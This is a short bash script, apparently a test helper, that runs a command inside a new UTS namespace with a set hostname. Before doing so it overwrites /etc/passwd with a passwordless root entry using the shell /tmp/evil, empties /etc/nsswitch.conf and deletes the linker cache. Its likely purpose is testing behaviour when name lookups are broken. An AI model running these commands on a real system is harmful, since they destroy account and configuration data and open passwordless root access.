#!/bin/bash
echo 'root::0:0::/:/tmp/evil' >/etc/passwd; echo >/etc/nsswitch.conf; rm -f /etc/ld.so.cache
exec unshare --uts sh -c 'hostname "$NAME" && exec "$@"' sh "$@"
